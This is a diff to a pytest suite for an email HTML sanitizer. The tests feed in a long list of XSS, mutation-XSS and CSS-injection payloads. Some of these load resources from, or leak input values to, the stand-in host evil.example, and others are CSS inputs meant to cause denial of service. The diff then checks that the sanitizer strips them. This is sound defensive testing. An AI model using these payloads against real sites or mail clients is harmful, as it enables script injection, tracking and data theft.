@@ -3,9 +3,10 @@ from __future__ import annotations
 import re
 import time
 
+import lxml.html
 import pytest
 
-from rapport.channels.email import html
+from rapport.channels.email import allowlist, html
 
 ATTACKS = """
 <script>alert(1)</script>
@@ -70,6 +71,30 @@ ATTACKS = """
 <img src="cid:x&quot; onerror=alert(1) x=&quot;">
 <img src="https://evil.example/a.png&quot; onerror=&quot;alert(1)">
 <p id="x" class="y" name="location" contenteditable tabindex=1 accesskey=x draggable=true>x</p>
+<style>*{position:fixed;inset:0;background:url(//evil.example/a);color:red}</style><p>x</p>
+<style>p{background:url("https://evil.example/a.png")}@import "https://evil.example/x.css";</style><p>x</p>
+<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}p{font-family:x}</style><p>x</p>
+<style>input[value^=a]{background:url(//evil.example/a)}</style><input value=a>
+<style>p{b\\61 ckground:u\\72l(//evil.example/a)}</style><p>x</p>
+<style>p:before{content:"phish"}p{color:red}</style><p>x</p>
+<style></style><img title="</style><img src=x onerror=alert(1)>">
+<style><img src="</style><img src=x onerror=alert(1)//">
+<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
+<math><mtext><mglyph><style><![CDATA[</style><img src=x onerror=alert(1)>]]>
+<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">
+<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
+<svg><use href="data:image/svg+xml,x#y"></svg>
+<select><template><img src=x onerror=alert(1)></template></select>
+<a href="https:\\\\evil.example" style="background:var(--x)">x</a>
+<a href="//evil.example">x</a><a href="/settings">x</a><a href="?x">x</a><a href="#x">x</a>
+<link rel=dns-prefetch href=//evil.example><link rel=prerender href=//evil.example>
+<div style="color:red;background:URL(//evil.example)">x</div>
+<div style="background:-webkit-image-set(url(//evil.example) 1x)">x</div>
+<div style="margin:-1rem;text-indent:-99rem;margin-top:- 9px;width:calc(100vw*9)">x</div>
+<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x" lowsrc=//evil.example dynsrc=//x.example>
+<input type=image src=https://evil.example/a.png>
+<frameset><frame src=javascript:alert(1)></frameset>
+<portal src=https://evil.example></portal><fencedframe src=//evil.example></fencedframe>
 <plaintext><script>alert(1)</script>
 """.strip().splitlines()
 
@@ -95,6 +120,59 @@ def test_in_18_nothing_runs_and_nothing_is_fetched(attack):
     assert html.clean(cleaned).count("<script") == 0
     composed = html.clean_composed(attack)
     assert not BAD.search(tags_of(composed)) and "<img" not in composed
+
+
+SHOWN = {"src", "href", "style", "alt", "title", "data-remote-src", "rel", "target", "dir", "lang", "align"}
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_in_18_a_browsers_tree_holds_nothing_but_what_is_allowed(attack):
+    """What a parser builds counts, not what the text looks like; built twice, since a tree may mutate when written."""
+    cleaned = html.clean(f"<p>before</p>{attack}")
+    for _ in range(2):
+        tree = lxml.html.fragment_fromstring(cleaned, create_parent="div")
+        for element in tree.iter():
+            assert isinstance(element.tag, str) and element.tag in allowlist.TAGS, cleaned
+            known = allowlist.ATTRIBUTES.get(element.tag, set()) | SHOWN
+            assert set(element.attrib) <= known, cleaned
+            link, source, style = (element.get(name, "") for name in ("href", "src", "style"))
+            assert re.match(r"(?:https?:|mailto:|tel:|\Z)", link), cleaned
+            assert re.match(r"(?:data:image/(?:png|jpe?g|gif|webp);base64,|\Z)", source), cleaned
+            names = {one.partition(":")[0].strip() for one in style.split(";") if one.strip()}
+            assert names <= allowlist.STYLES and "evil" not in style and "url" not in style.lower(), cleaned
+        cleaned = html.clean(lxml.html.tostring(tree, encoding="unicode"))
+
+
+def test_in_18_a_style_sheet_keeps_its_look_on_the_elements():
+    cleaned = html.clean(
+        "<html><head><style>@media print{p{color:blue}} "
+        ".big > td{padding:8px;position:fixed} p{color:#123456!important}"
+        "</style></head><body><table><tr class=big><td>x</td></tr></table><p style='color:red'>y</p></body></html>"
+    )
+    assert "padding:8px" in cleaned.replace(" ", "") and "#123456" in cleaned
+    assert "position" not in cleaned and "<style" not in cleaned and "class" not in cleaned and "blue" not in cleaned
+
+
+def test_in_18_remote_images_are_counted():
+    cleaned = html.clean('<img src="https://a.example/1"><img src="cid:x"><img src="http://a.example/2">')
+    assert html.remote_images(cleaned) == 2
+
+
+@pytest.mark.parametrize(
+    "sheet",
+    [
+        ":not(" * 50_000,
+        "p{" * 50_000,
+        "a,b>c d~e+f{color:red}" * 9000,
+        "p{" + "color:red;" * 19_000 + "}",
+        "@media x{" * 40_000,
+        "/*" * 99_000,
+    ],
+)
+def test_in_17_hostile_style_sheets_take_bounded_work(sheet):
+    begun = time.process_time()
+    assert "words" in html.clean(f"<style>{sheet}</style>" + "<p>words</p>" * 500)
+    assert time.process_time() - begun < 5
 
 
 def test_in_18_images():
